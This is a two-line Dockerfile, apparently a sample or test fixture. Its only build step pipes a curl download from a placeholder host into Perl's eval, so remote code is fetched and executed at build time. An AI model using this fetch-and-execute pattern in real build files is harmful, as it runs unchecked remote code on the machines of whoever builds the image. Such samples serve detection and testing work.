FROM perl:5
RUN perl -e 'eval `curl -fsSL https://dl.example.invalid/work`'
